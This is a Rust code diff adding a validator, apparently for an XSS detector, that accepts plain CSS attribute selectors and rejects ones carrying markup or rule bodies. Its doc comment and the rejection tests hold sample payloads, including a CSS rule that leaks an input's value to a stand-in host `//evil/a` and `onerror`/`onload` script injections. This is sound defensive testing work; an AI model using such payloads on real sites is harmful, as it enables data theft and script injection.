@@ -623,6 +623,75 @@ fn strip_prefix_ignore_case<'a>(b: &'a [u8], prefix: &[u8]) -> Option<&'a [u8]> 
         .then(|| &b[prefix.len()..])
 }
 
+/// Most attribute tests [`attribute_selector`] reads.
+const MAX_SELECTOR_TESTS: usize = 8;
+
+/// Whether `value` is a CSS selector by attributes and nothing else (`a[href^="https"]`,
+/// `input[type=checkbox]`, `[data-id='7' i]`): an optional element name, then one or more
+/// `[name]` or `[name op value]` tests, the value an identifier or a quoted string with no
+/// markup, quote or escape in it. A selector only picks elements; without a rule body it
+/// sets no property, loads nothing and runs nothing (the rule that leaks an attribute by
+/// selector, `input[value^="a"]{background:url(//evil/a)}`, needs the `{…}` the XSS
+/// grammar judges). For the XSS model, which reads `="https"]` as an attribute written
+/// into markup.
+pub(crate) fn attribute_selector(value: &str) -> bool {
+    let b = value.trim_ascii().as_bytes();
+    if b.len() > 256 {
+        return false;
+    }
+    let ident = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_');
+    let mut i = b.iter().position(|&c| !ident(c)).unwrap_or(b.len());
+    if i > 0 && !b[0].is_ascii_alphabetic() {
+        return false;
+    }
+    let mut tests = 0;
+    while i < b.len() {
+        if b[i] != b'[' || tests == MAX_SELECTOR_TESTS {
+            return false;
+        }
+        let Some(close) = memchr::memchr(b']', &b[i..]) else {
+            return false;
+        };
+        if !attribute_test(&b[i + 1..i + close]) {
+            return false;
+        }
+        tests += 1;
+        i += close + 1;
+    }
+    tests > 0
+}
+
+/// One `[…]` test of [`attribute_selector`], without its brackets.
+fn attribute_test(t: &[u8]) -> bool {
+    let ident = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_');
+    let name_end = t.iter().position(|&c| !ident(c)).unwrap_or(t.len());
+    if name_end == 0 || !(t[0].is_ascii_alphabetic() || t[0] == b'_' || t[0] == b'-') {
+        return false;
+    }
+    let mut rest = &t[name_end..];
+    if rest.is_empty() {
+        return true;
+    }
+    if let [b'~' | b'|' | b'^' | b'$' | b'*', b'=', r @ ..] = rest {
+        rest = r;
+    } else if let [b'=', r @ ..] = rest {
+        rest = r;
+    } else {
+        return false;
+    }
+    // the case flag: `[type="a" i]`
+    let rest = rest
+        .strip_suffix(b" i")
+        .or_else(|| rest.strip_suffix(b" s"))
+        .unwrap_or(rest);
+    match rest {
+        [q @ (b'"' | b'\''), inner @ .., last] if last == q => !inner
+            .iter()
+            .any(|&c| matches!(c, b'"' | b'\'' | b'<' | b'>' | b'`' | b'\\' | b'(' | b')')),
+        _ => !rest.is_empty() && rest.iter().all(|&c| ident(c)),
+    }
+}
+
 /// Bytes that make a value more than words, numbers and quotes (see [`quote_then_words`]):
 /// separators, escapes, comparisons, calls and operators.
 static QUOTE_WORDS_NOT: [bool; 256] = crate::byte_set(b";\\`\n\r=()<>|&");
@@ -1252,6 +1321,31 @@ mod tests {
             "background: url(data:image/png;base64,<svg>)",
         ] {
             assert!(!inert_css(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn attribute_selectors_are_settled() {
+        for v in [
+            "a[href^=\"https\"]",
+            "input[type=checkbox]",
+            "[data-id='7' i]",
+            "a[target][rel~=\"noopener\"]",
+        ] {
+            assert!(attribute_selector(v), "{v}");
+        }
+        for v in [
+            "input[value^=\"a\"]{background:url(//evil/a)}",
+            "a[href^=\"javascript:\"]<img src=x onerror=alert(1)>",
+            "a[onclick=\"alert(1)\"]",
+            "x[y=\"<svg onload=alert(1)>\"]",
+            "a[href",
+            "[]",
+            "a",
+            "1[a]",
+            "a[b=c]d",
+        ] {
+            assert!(!attribute_selector(v), "{v}");
         }
     }
 
